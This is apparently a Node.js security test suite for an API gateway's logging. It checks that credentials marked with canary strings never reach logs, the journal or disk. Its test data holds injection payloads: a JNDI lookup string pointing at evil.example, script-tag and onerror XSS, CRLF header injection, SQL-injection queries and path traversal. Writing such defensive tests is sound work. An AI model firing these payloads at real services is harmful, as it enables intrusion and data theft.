// Attacks on logs, the journal and files on disk. No request may put a credential, a key or a body there, and only the
// gateway may write lines in them. Each secret contains a mark, so that one search finds all of them.
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { freePort } from "../../chaos/port.mjs";
import { Server } from "../../chaos/servers.mjs";
import { exchange, head, sendRaw, startRaw } from "../fixtures/client.mjs";
import { created, cut, Gateway, newKey, Origin, recordName, scopeName, startGateway } from "../fixtures/support.mjs";
import { newSecret, now, sign } from "../fixtures/sender.mjs";

const mark = `c4n4ry${randomBytes(6).toString("hex")}`;
let count = 0;
/** Returns a secret that contains the mark. */
const secret = (what = "") => `${what}${mark}${(count += 1)}`;
const webhookSecret = newSecret();
const ADMIN_TOKEN = secret("admin-");
const admin = [["Authorization", `Bearer ${ADMIN_TOKEN}`]];

const SETTINGS = {
  ADMIN_TOKEN,
  FINGERPRINT_SECRET: `one:${secret()},two:${secret()}`,
  WEBHOOK_SECRETS: `sender:${webhookSecret}`,
  SCOPE: "header:X-Api-Key,header:Authorization,cookie:sid",
  BUSINESS_KEYS: "POST:/o/*:/no",
  RESOLVE: "POST:/o/*:/o/find?no={/no}#/id",
  KEY_FIELD: "key",
  ORIGIN_TIMEOUT_SECONDS: "3",
  MAX_REPLAY_BYTES: "2000",
};

/** Characters that end a line, begin a new line, or control the terminal of a person who reads the log. */
const STEERING = ["\u2028", "\u2029", "\u0085", "\u202e", "\u009b31m", "%0d%0a", "\\r\\n", "\x1b[2J\x1b[31m", "\t", "\x7f", "\ufeff", '"', "<script>alert(1)</script>", "${jndi:ldap://evil.example}", "%s%n%x"];

/**
 * Does everything that a caller, a sender, an operator and an origin can do wrong. (No final response of the origin
 * contains the mark, because final responses are stored on purpose.)
 */
async function attackGateway({ url }, origin) {
  const call = (method, path, headers, body, more) => exchange(url, { method, path, headers, body, ...more }).catch(() => undefined);
  const who = () => [["X-Api-Key", secret("kuko_test_")]];
  const keyed = (more = []) => [...who(), ["Idempotency-Key", secret("key-")], ...more];
  const body = () => ({ no: secret("order-"), card: secret("4242-"), amount: 1 });
  const responses = {
    ok: () => ({ status: 201, headers: { "Content-Type": "application/json" }, body: '{"id":"ord_1"}' }),
    fault: () => ({ status: 500, body: secret("stack trace ") }),
    refused: () => ({ status: 429, body: secret("slow down ") }),
    cut,
    odd: (_, response) => (response.writeHead(999, { "X-Request-Id": secret("long").padEnd(3000, "x") }), response.end("{}")),
    garbled: (_, response) => void response.socket.end(`HTTP/1.1 200 OK\r\nX-Request-Id: ${secret("a b")}\r\nTransfer-Encoding: chunked\r\n\r\nzz${secret()}\r\n`),
    slow: () => new Promise(() => {}),
    redirect: () => ({ status: 302, headers: { Location: "https://x/y" }, body: "" }),
    large: () => ({ status: 200, body: "x".repeat(5000) }),
  };
  for (const [name, response] of Object.entries(responses)) origin.route(response, `/o/${name}`);

  for (const name of Object.keys(responses)) {
    const headers = keyed();
    for (const content of [body(), body()]) await call("POST", `/o/${name}?q=1`, headers, content);
    // Without a key, the gateway waits as long as the caller does, so this caller closes the connection.
    const patience = name === "slow" ? { timeout: 5_000 } : {};
    await call("POST", `/o/${name}`, who(), body(), patience);
    await call("GET", `/o/${name}?q=1`, who(), undefined, patience);
    await call("GET", "/_oncekey/key", headers);
    await call("POST", "/_oncekey/key/void", headers);
    await call("POST", "/_oncekey/key/settle", [...headers, ...admin], { outcome: "executed", status: 200, body: "", headers: { "X A": "a" } });
    await call("POST", "/_oncekey/key/settle", [...headers, ...admin], `{"outcome":"${secret()}"`);
    await call("POST", "/_oncekey/key/settle", [...headers, ["Authorization", `Bearer ${secret()}`]], { outcome: secret() });
  }
  for (const steering of STEERING) {
    const nasty = `${secret()}${steering}${secret()}`;
    for (const place of ["X-Api-Key", "Idempotency-Key", "X-Request-Id", "Authorization", "Cookie", "X-Oncekey-Scope", "X-Oncekey-Name", "webhook-id"]) {
      const pairs = [...keyed().filter(([name]) => name !== place), ["Host", "x"], [place, nasty]];
      const text = [`POST /o/ok HTTP/1.1`, ...pairs.map((pair) => pair.join(": ")), "Content-Length: 2", "Connection: close", "", "{}"].join("\r\n");
      await sendRaw(url, Buffer.from(text, "utf8")).catch(() => {});
    }
    // The platform logs the URL and the types of a request, so no secret is put there.
    for (const place of ["Content-Type", "Accept", "Origin", "Access-Control-Request-Headers"]) {
      await sendRaw(url, Buffer.from(`POST /o/ok HTTP/1.1\r\nHost: x\r\n${place}: a${steering}b\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`)).catch(() => {});
    }
    await call("POST", `/o/ok?${encodeURIComponent(steering)}`, keyed(), { ...body(), no: nasty });
    await call("GET", `/_oncekey/journal?request_id=${encodeURIComponent(steering)}&key=x`, admin);
    await call("GET", `/_oncekey/keys/${encodeURIComponent(steering)}`, admin);
  }
  // Unreadable bodies, forms, and bodies that are too large.
  for (const [type, content] of [
    ["application/json", `{"no":"${secret()}`],
    ["application/json", `{"no":"${secret()}","no":"${secret()}"}`],
    ["application/json", "[".repeat(5000) + secret()],
    ["application/x-www-form-urlencoded", `key=${secret()}&key=${secret()}&a=${secret()}`],
    ["application/x-www-form-urlencoded", `key=${secret()}%0d%0a&a=${secret()}`],
    ["multipart/form-data; boundary=b", `--b\r\nContent-Disposition: form-data; name="key"\r\n\r\n${secret()}\r\n--b--`],
    ["multipart/form-data; boundary=b", `--b\r\nContent-Disposition: form-data; name="key"\r\n\r\n${secret()}`],
    ["text/plain", secret().repeat(100_000)],
  ]) {
    await call("POST", "/o/ok", [...keyed(), ["Content-Type", type]], content);
    await call("POST", "/o/ok", [...who(), ["Content-Type", type]], content);
  }
  // Invalid credentials, and callers that go away.
  for (const credential of [`Bearer eyJ${mark}.e30.x`, `Basic ${Buffer.from(secret()).toString("base64")}`, `Digest nonce="${secret()}"`]) {
    await call("POST", "/o/ok", [["Authorization", credential], ["Idempotency-Key", secret()]], body());
  }
  await call("POST", "/o/ok", [["Cookie", `sid=${secret()}; sid=${secret()}`], ["Idempotency-Key", secret()]], body());
  for (const path of ["/o/ok", "/o/slow"]) {
    const text = JSON.stringify(body());
    for (const sent of [text, text.slice(0, 9)]) {
      const socket = await startRaw(url, Buffer.concat([head("POST", path, [...keyed(), ["Content-Length", text.length]]), Buffer.from(sent)]));
      socket.resetAndDestroy();
    }
  }
  // Events with valid and invalid signatures.
  for (const [source, key] of [["sender", webhookSecret], ["sender", newSecret()], ["nobody", webhookSecret]]) {
    const [id, stamp, content] = [secret("evt_"), String(now()), JSON.stringify({ type: secret() })];
    for (const signature of [sign(key, id, stamp, content), secret("v1,"), ""]) {
      await call("POST", `/webhooks/${source}`, [["webhook-id", id], ["webhook-timestamp", stamp], ["webhook-signature", signature]], content);
    }
  }
  // Panics, if the build has test faults.
  for (const point of ["gateway", "object", "task"]) {
    await call("POST", "/o/ok", [...keyed(), ["Oncekey-Test-Panic", point]], body());
  }
}

/** Returns all files below a folder, as bytes. */
function* files(folder) {
  for (const entry of readdirSync(folder, { withFileTypes: true, recursive: true })) {
    if (entry.isFile()) yield [entry.name, readFileSync(join(entry.parentPath, entry.name))];
  }
}

/** The encodings in which a secret could be stored. */
const spellings = [mark, Buffer.from(mark).toString("hex"), encodeURIComponent(mark), ...[0, 1, 2].map((at) => Buffer.from("x".repeat(at) + mark).toString("base64").slice(4, 16))];

for (const kind of ["workerd", "wrangler"]) {
  describe(`an attack on ${kind === "workerd" ? "plain workerd" : "wrangler dev"}`, () => {
    let folder, server, origin;
    before(async () => {
      origin = await Origin.start();
      folder = mkdtempSync(join(tmpdir(), "oncekey-logs-"));
      server = new Server({ kind, folder, port: await freePort(), vars: { ...SETTINGS, UPSTREAM: origin.url } });
      await server.start();
    });
    after(async () => {
      await server.kill();
      await origin.close();
      rmSync(folder, { recursive: true, force: true });
    });

    test("no secret is written to the log or the disk", async () => {
      await attackGateway(server, origin);
      const reached = origin.seen.map((one) => JSON.stringify(one.headers) + one.body).join();
      assert.ok(reached.includes(mark), "the attack reached the origin");
      const health = await exchange(server.url, { path: "/_oncekey/health" });
      assert.deepEqual([health.status, health.text.includes(mark)], [200, false], "the gateway still works");
      const rows = await exchange(server.url, { path: "/_oncekey/journal?limit=5000", headers: admin });
      assert.ok(rows.text.split("\n").length > 20, "the attack has left journal rows");
      assert.ok(!rows.text.includes(mark), "the journal contains only hashes");
      const keys = await exchange(server.url, { path: "/_oncekey/keys?limit=200", headers: admin });
      assert.ok(!keys.text.includes(mark));
      await server.kill();

      const log = readFileSync(join(folder, "server.log"), "utf8");
      for (const spelling of spellings) assert.ok(!log.includes(spelling), `the log contains ${log.split("\n").find((line) => line.includes(spelling))}`);
      for (const nasty of ["\x1b[2J", "\u2028", "\u202e", "jndi"]) assert.ok(!log.includes(nasty), JSON.stringify(nasty));
      let bytes = 0;
      for (const [name, content] of files(join(folder, "state"))) {
        bytes += content.length;
        for (const spelling of spellings) {
          const at = content.indexOf(spelling);
          assert.ok(at < 0, `${name} contains ${content.subarray(at - 60, at + 60).toString("latin1")}`);
        }
      }
      assert.ok(bytes > 100_000, "the disk contains files to search");
    });
  });
}

describe("the journal", () => {
  let gateway;
  before(async () => (gateway = await startGateway({ vars: { ADMIN_TOKEN, BUSINESS_KEYS: "POST:/o/*:/no" } })));
  after(() => gateway.dispose());

  test("an origin's request id that is not plain text reaches neither callers nor the journal", async () => {
    const plain = "req_origin-1/ü".slice(0, 12);
    const ids = [plain, "x".repeat(128), "x".repeat(129), "x".repeat(9000), "a b", "a\tb", "ünïcode", "\xff\xfe", 'a"b', "<img/src=x/onerror=alert(1)>"];
    for (const id of ids) {
      const path = gateway.route((_, response) => {
        response.socket.end(Buffer.from(`HTTP/1.1 201 Created\r\nX-Request-Id: ${id}\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}`, "latin1"));
      });
      const isPlain = /^[\x21-\x7e]{1,128}$/.test(id);
      const key = newKey();
      const requestId = (response) => response.get("X-Request-Id");
      const first = await gateway.post(path, key);
      assert.equal(first.status, 201, id);
      if (isPlain) assert.equal(requestId(first), id);
      else assert.match(requestId(first), /^req_[0-9a-f]{24}$/, id);
      const again = await gateway.post(path, key);
      assert.deepEqual([again.replayed, requestId(again)], [true, requestId(first)], "the second caller gets the same request id");
      const name = recordName(key);
      const rows = (await gateway.get(`/_oncekey/journal?key=${name}`, { as: null, headers: admin })).text.split("\n").filter(Boolean);
      assert.deepEqual(rows.map((row) => JSON.parse(row).request_id), [requestId(first)], "each row is one line");
      const life = (await gateway.get(`/_oncekey/keys/${name}`, { as: null, headers: admin })).json;
      assert.deepEqual([life.key.request_id, life.journal.length], [requestId(first), 1]);
      assert.equal((await gateway.status(key)).request_id, requestId(first));
      // The same holds for a write without a key, and for a read.
      for (const response of [await gateway.call("POST", path), await gateway.get(path)]) assert.match(requestId(response), /^[\x21-\x7e]{1,128}$/);
    }
  });

  test("a request id from the caller is not used", async () => {
    const path = gateway.route();
    const key = newKey();
    const response = await gateway.post(path, key, {}, { headers: [["X-Request-Id", secret("req_")]] });
    assert.match(response.get("X-Request-Id"), /^req_[0-9a-f]{24}$/);
    assert.equal(gateway.origin.last(path).headers["x-request-id"], response.get("X-Request-Id"));
  });

  test("an operator's query cannot inject other parameters or headers", async () => {
    const ask = (path) => gateway.get(path, { as: null, headers: admin });
    for (const query of ["request_id=a%09b", "request_id=a%0ab", "request_id=a%0d%0aX-Evil:1", "state=unknown%09", "key=%27%20OR%201=1", "limit=1%20OR%201", "cursor=0-0-0%27", "from=1;DROP", "limit=5&limit=6", "a=b", "request_id=%ff", "state=completed,unknown"]) {
      assert.equal((await ask(`/_oncekey/journal?${query}`)).status, 400, query);
    }
    for (const query of ["request_id=%27;DROP%20TABLE%20journal;--".replaceAll("%20", "+"), "request_id=%3E%3B%20rel%3D%22next".replaceAll("%20", ""), "request_id=%22%7D"]) {
      const response = await ask(`/_oncekey/journal?${query}`);
      assert.deepEqual([response.status, response.text], [200, ""], query);
      assert.equal(response.get("Link"), undefined);
    }
    const response = await ask("/_oncekey/journal?limit=1&state=completed");
    assert.match(response.get("Link"), /^<\/_oncekey\/journal\?limit=1&state=completed&cursor=[0-9-]+>; rel="next"$/);
    for (const path of ["keys/" + "0".repeat(63), "keys/../journal", "keys/%27", `keys/${"g".repeat(64)}`]) {
      assert.ok([404, 200].includes((await ask(`/_oncekey/${path}`)).status), path);
    }
  });

  test("only the owner of a business key sees it in an error", async () => {
    const businessKey = `${secret("order-")}\u202e<b>`;
    const path = gateway.route(created);
    await gateway.post(path, newKey(), { no: businessKey, a: 1 });
    const refused = await gateway.post(path, newKey(), { no: businessKey, a: 2 });
    assert.equal(refused.status, 400);
    assert.equal(refused.get("Content-Type"), "application/json");
    assert.ok(refused.json.message.includes(businessKey), "the value is escaped as JSON");
    const rows = (await gateway.get("/_oncekey/journal?limit=5000", { as: null, headers: admin })).text;
    assert.ok(!rows.includes(mark));
    assert.ok(rows.includes(scopeName()), "a hash names the scope");
    const logged = gateway.worker.logs.map(({ message }) => message).join("\n");
    assert.ok(!logged.includes(mark), logged);
  });
});
